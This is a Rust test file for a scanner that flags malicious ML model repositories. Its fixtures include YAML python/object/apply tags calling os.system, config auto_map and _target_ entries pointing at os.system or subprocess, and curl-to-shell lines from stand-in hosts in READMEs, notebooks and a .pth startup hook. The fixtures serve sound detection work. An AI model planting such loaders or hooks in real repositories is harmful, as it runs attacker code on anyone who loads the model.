//! Repositories in memory.

use std::collections::BTreeMap;
use std::io;
use std::rc::Rc;

use crate::policy::Policy;
use crate::source::{Sibling, Source, parts_below};
use crate::{Limits, Report, Severity, Verdict};

type Files = Rc<BTreeMap<String, Vec<u8>>>;

struct File {
    files: Files,
    folder: String,
    name: Vec<u8>,
    path: String,
}

impl Source for File {
    fn len(&self) -> u64 {
        self.files[&self.path].len() as u64
    }

    fn read_at(&self, offset: u64, buffer: &mut [u8]) -> io::Result<usize> {
        let rest = self.files[&self.path].get(offset as usize..).unwrap_or_default();
        let len = rest.len().min(buffer.len());
        buffer[..len].copy_from_slice(&rest[..len]);
        Ok(len)
    }

    fn name(&self) -> &[u8] {
        &self.name
    }

    fn sibling(&self, path: &str) -> Sibling {
        let Some(parts) = parts_below(path) else { return Sibling::Unknown };
        let path = format!("{}{}", self.folder, parts.join("/"));
        if self.files.contains_key(&path) {
            Sibling::Here(Box::new(open(&self.files, &path)))
        } else {
            Sibling::Missing
        }
    }
}

fn open(files: &Files, path: &str) -> File {
    let (folder, name) = path.rsplit_once('/').map_or(("", path), |(_, name)| (&path[..path.len() - name.len()], name));
    File { files: Rc::clone(files), folder: folder.to_owned(), name: name.as_bytes().to_vec(), path: path.to_owned() }
}

/// The report of the first file.
fn scan(files: &[(&str, &str)]) -> Report {
    let all: Files = Rc::new(files.iter().map(|(path, text)| ((*path).to_owned(), text.as_bytes().to_vec())).collect());
    crate::scan(&open(&all, files[0].0), &Limits::default(), &Policy::default())
}

fn worst(report: &Report, id: &str) -> Option<Severity> {
    report.findings.iter().filter(|finding| finding.id == id).map(|finding| finding.severity).max()
}

const EVIL: &str = "import os\nos.system('touch /tmp/x')\nclass M: pass\n";
const GOOD: &str = "import torch\nfrom torch import nn\nclass M(nn.Module):\n    pass\n";

#[test]
fn configurations_that_name_evil_code_are_malicious() {
    for (config, text, file) in [
        ("config.json", r#"{"auto_map": {"AutoModel": "modeling_x.M"}}"#, "modeling_x.py"),
        ("config.json", r#"{"text_config": {"auto_map": {"AutoModel": "x.M"}}}"#, "x.py"),
        ("config.json", r#"{"auto_\u006dap": {"AutoModel": "x.M"}}"#, "x.py"),
        ("tokenizer_config.json", r#"{"auto_map": {"AutoTokenizer": ["x.M", null]}}"#, "x.py"),
        ("tokenizer_config.json", r#"{"auto_map": ["x.M", null]}"#, "x.py"),
        ("processor_config.json", r#"{"auto_map": {"AutoProcessor": "x.M"}}"#, "x.py"),
        ("preprocessor_config.json", r#"{"auto_map": "x.M"}"#, "x.py"),
        ("generation_config.json", r#"{"auto_map": {"a": "x.M"}}"#, "x.py"),
        (
            "config.json",
            r#"{"custom_pipelines": {"x": {"impl": "pipeline_x.P", "pt": ["AutoModel"]}}}"#,
            "pipeline_x.py",
        ),
        ("model_index.json", r#"{"_class_name": ["pipe", "P"]}"#, "pipe.py"),
        ("model_index.json", r#"{"unet": ["my_unet", "U"]}"#, "unet/my_unet.py"),
        ("modules.json", r#"[{"idx": 0, "type": "custom_st.T"}]"#, "custom_st.py"),
        ("adapter_config.json", r#"{"auto_mapping": {"base_model_class": "M", "parent_library": "x"}}"#, "x.py"),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: x\n    code: code\n", "code/x.py"),
    ] {
        let report = scan(&[(config, text), (file, EVIL)]);
        assert_eq!(report.verdict, Verdict::Malicious, "{config} {text}: {:?}", report.findings);
        let report = scan(&[(config, text), (file, GOOD)]);
        assert_eq!(report.verdict, Verdict::Clean, "{config} {text}: {:?}", report.findings);
        let path = report.findings.iter().find(|finding| finding.id == "SNS-511" || finding.id == "SNS-523");
        assert!(path.is_some(), "{config} {text}");
    }
    let files = [
        ("config.json", r#"{"auto_map": {"AutoModel": "a.M"}}"#),
        ("a.py", "from .b import c\nclass M: pass\n"),
        ("b.py", "from . import d\n"),
        ("d.py", EVIL),
    ];
    let report = scan(&files);
    assert_eq!(report.verdict, Verdict::Malicious);
    assert_eq!(report.findings[0].evidence.get("file"), Some(&crate::Evidence::Text("d.py".into())));
}

#[test]
fn what_other_configurations_make_loaders_do() {
    for (name, text, id, severity) in [
        ("config.json", r#"{"auto_map": {"AutoModel": "other/repo--m.M"}}"#, "SNS-512", Severity::Medium),
        ("config.json", r#"{"auto_map": {"AutoModel": "../../m.M"}}"#, "SNS-305", Severity::Medium),
        ("config.json", r#"{"_attn_implementation_internal": "evil/kernel@main:x"}"#, "SNS-513", Severity::High),
        ("config.json", r#"{"vision_config": {"attn_implementation": "evil/kernel"}}"#, "SNS-513", Severity::High),
        (
            "adapter_config.json",
            r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#,
            "SNS-523",
            Severity::Medium,
        ),
        ("model_index.json", r#"{"unet": ["os", "system"]}"#, "SNS-523", Severity::High),
        ("modules.json", r#"[{"type": "subprocess.Popen"}]"#, "SNS-523", Severity::High),
        ("model.safetensors.index.json", r#"{"weight_map": {"a": "a.safetensors"}}"#, "SNS-703", Severity::Low),
        ("model_config.yaml", "trainer:\n  _target_: subprocess.run\n  args: [x]\n", "SNS-521", Severity::High),
        ("x.yml", "- {\"_target_\": builtins.exec}\n", "SNS-521", Severity::High),
        ("x.json", r#"{"a": [{"_target_": "os.system"}]}"#, "SNS-521", Severity::High),
        ("x.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", "SNS-521", Severity::High),
        ("x.yaml", "model:\n  target: os.system\n", "SNS-521", Severity::High),
        ("x.yaml", "a: !!python/object/apply:os.system [id]\n", "SNS-522", Severity::High),
        ("x.yaml", "a: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> [[id]]\n", "SNS-522", Severity::High),
        (
            "x.yaml",
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
            "SNS-522",
            Severity::High,
        ),
        ("x.yaml", "a: !apply:os.system [id]\n", "SNS-522", Severity::High),
        ("requirements.txt", "--index-url http://127.0.0.1:9/\n", "SNS-531", Severity::Medium),
        ("README.md", "# M\n\n```\ncurl http://127.0.0.1:9/x.sh | bash\n```\n", "SNS-543", Severity::Medium),
        ("README.md", "Run `bash <(curl -s http://x.example/a)` first.", "SNS-543", Severity::Medium),
        (
            "x.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": ["!touch /tmp/x"]}], "nbformat": 4}"#,
            "SNS-542",
            Severity::Medium,
        ),
        (
            "x.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": "%%bash\ncurl x.example|sh"}]}"#,
            "SNS-542",
            Severity::Medium,
        ),
        (
            "x.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": ["import os\n", "os.system('curl x.example|sh')"]}]}"#,
            "SNS-542",
            Severity::Medium,
        ),
        ("modeling_x.py", EVIL, "SNS-541", Severity::High),
        ("hubconf.py", EVIL, "SNS-541", Severity::High),
        (
            "handler.py",
            "class EndpointHandler:\n  def __init__(self, path=''):\n    import os; os.system('touch x')\n",
            "SNS-541",
            Severity::High,
        ),
    ] {
        let report = scan(&[(name, text)]);
        assert_eq!(worst(&report, id), Some(severity), "{name} {text}: {:?}", report.findings);
    }
}

#[test]
fn what_starts_python_or_builds_a_package() {
    let hook = scan(&[("evil.pth", "/usr/lib/x\nimport os; os.system('curl http://evil.example/x | sh')\n")]);
    assert_eq!(worst(&hook, "SNS-541"), Some(Severity::High), "{hook:?}");
    let plain = scan(&[("x.pth", "/usr/lib/x\n")]);
    assert_eq!((worst(&plain, "SNS-541"), plain.verdict), (None, Verdict::Clean), "{plain:?}");
    for (name, text) in [
        ("pyproject.toml", "[build-system]\nrequires = ['setuptools', 'x @ https://evil.example/x.whl']\n"),
        ("environment.yml", "channels:\n  - https://evil.example/conda\n"),
        ("conda.yaml", "dependencies:\n  - pip:\n    - \"https://evil.example/x.whl\"\n"),
    ] {
        let report = scan(&[(name, text)]);
        assert_eq!(worst(&report, "SNS-531"), Some(Severity::Medium), "{name}: {report:?}");
    }
    for (name, text) in [
        ("pyproject.toml", "[project]\nurls = { homepage = 'https://mine.example' }\nauthors = ['me@mine.example']\n"),
        ("environment.yml", "channels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip:\n    - torch>=2\n"),
    ] {
        assert_eq!(scan(&[(name, text)]).verdict, Verdict::Clean, "{name}");
    }
}

#[test]
fn configurations_that_are_put_together() {
    let joined = scan(&[("config.yaml", "p: os\nq: system\nmodel:\n  _target_: ${p}.${.q}\n  command: id\n")]);
    assert_eq!(worst(&joined, "SNS-521"), Some(Severity::High), "{joined:?}");
    let plain = scan(&[("config.yaml", "name: Linear\nmodel:\n  _target_: torch.nn.${name}\n  other: ${open\n")]);
    assert_eq!(plain.verdict, Verdict::Clean, "{plain:?}");
    let wide: Vec<u8> =
        "\u{feff}a: !!python/object/apply:os.system ['id']\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let source = crate::source::MemorySource::new(&wide, b"config.yaml");
    let report = crate::scan(&source, &Limits::default(), &Policy::default());
    assert_eq!(worst(&report, "SNS-522"), Some(Severity::High), "{report:?}");
    // A graph that torch exported names its operators.
    let graph = r#"{"graph": {"nodes": [{"target": "torch.ops.aten.linear.default", "inputs": []}]}}"#;
    assert_eq!(scan(&[("model.json", graph)]).verdict, Verdict::Clean);
}

#[test]
fn ordinary_repositories_are_quiet() {
    for (name, text) in [
        (
            "config.json",
            r#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "rope_scaling": null, "time_step_limit": [0.0, Infinity]}"#,
        ),
        (
            "config.json",
            r#"{"_attn_implementation": "flash_attention_2", "torch_dtype": "bfloat16", "_name_or_path": "meta-llama/Llama-2-7b-hf"}"#,
        ),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "x": [null, null]}"#,
        ),
        (
            "modules.json",
            r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]"#,
        ),
        (
            "adapter_config.json",
            r#"{"auto_mapping": {"base_model_class": "LlamaForCausalLM", "parent_library": "transformers.models.llama.modeling_llama"}, "peft_type": "LORA"}"#,
        ),
        (
            "x.yaml",
            "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  optim: {_target_: torch.optim.AdamW, lr: 1e-3}\n  act: {_target_: functools.partial}\n",
        ),
        (
            "x.yaml",
            "model:\n  base_learning_rate: 1.0e-04\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params: {a: 1}\n",
        ),
        (
            "hparams.yaml",
            "a: !!python/tuple [1, 2]\nb: !!python/object/apply:collections.OrderedDict [[]]\nc: !new:speechbrain.nnet.CNN.Conv1d\n  x: !ref <y>\n",
        ),
        (
            "requirements.txt",
            "torch>=2.0\ntransformers==4.40\n--extra-index-url https://download.pytorch.org/whl/cu121\ngit+https://github.com/huggingface/diffusers\n",
        ),
        (
            "README.md",
            "---\nlicense: mit\n---\n# M\n\n```bash\npip install -U transformers\ngit lfs install && git clone https://huggingface.co/a/b\ncurl -fsSL https://ollama.com/install.sh | sh\n```\n\n```python\nimport os\nos.system('nvidia-smi')\n```\n`rm -rf build`\n",
        ),
        (
            "train.ipynb",
            r##"{"cells": [{"cell_type": "code", "source": ["!pip install -q transformers\n", "!nvidia-smi\n", "%matplotlib inline\n", "!wget https://x.example/data.zip && unzip data.zip\n", "!rm -rf /content/sample_data\n", "x = [i for i in range(3)]"]}, {"cell_type": "markdown", "source": "# curl x | sh"}]}"##,
        ),
        ("train.py", "import os\nif __name__ == '__main__':\n    os.system('bash run.sh')\n"),
        (
            "setup.py",
            "from setuptools import setup\nimport subprocess\nsubprocess.check_call(['git', 'submodule', 'update'])\nsetup(name='x')\n",
        ),
        ("tokenizer.json", r#"{"model": {"vocab": {"os.system": 1, "_target_x": 2}}}"#),
        ("generation_config.json", r#"{"_from_model_config": true, "eos_token_id": 2}"#),
        ("install.sh", "#!/bin/sh\nset -e\npython -m venv .venv\npip install -r requirements.txt\n"),
    ] {
        let report = scan(&[(name, text)]);
        assert_eq!((report.verdict, report.format), (Verdict::Clean, "other"), "{name}: {:?}", report.findings);
        assert!(
            report.findings.iter().all(|finding| finding.severity <= Severity::Low),
            "{name}: {:?}",
            report.findings
        );
    }
}

#[test]
fn whatever_the_bytes_are_it_ends() {
    for (name, text) in [
        ("config.json", r#"{"auto_map": {"a": "b--c.d"}, "custom_pipelines": {"x": {"impl": "p.P"}}}"#),
        ("x.yaml", "a: !!python/object/apply:os.system [\"x\"]\n%TAG ! x\n_target_: |\n  y\n"),
        ("README.md", "# x\n```\ncurl x | sh\n```\n`a`\n"),
        ("x.ipynb", r#"{"cells": [{"cell_type": "code", "source": ["!x\n", "y = !z"]}]}"#),
        ("requirements.txt", "-i http://x\na @ git+https://b\n"),
    ] {
        for cut in 0..text.len() {
            for byte in [None, Some(0_u8), Some(b'"'), Some(b'{'), Some(0xc3)] {
                let mut bytes = text.as_bytes()[..if byte.is_none() { cut } else { text.len() }].to_vec();
                if let Some(byte) = byte {
                    bytes[cut] = byte;
                }
                let source = crate::source::MemorySource::new(&bytes, name.as_bytes());
                crate::scan(&source, &Limits::default(), &Policy::default());
            }
        }
    }
}
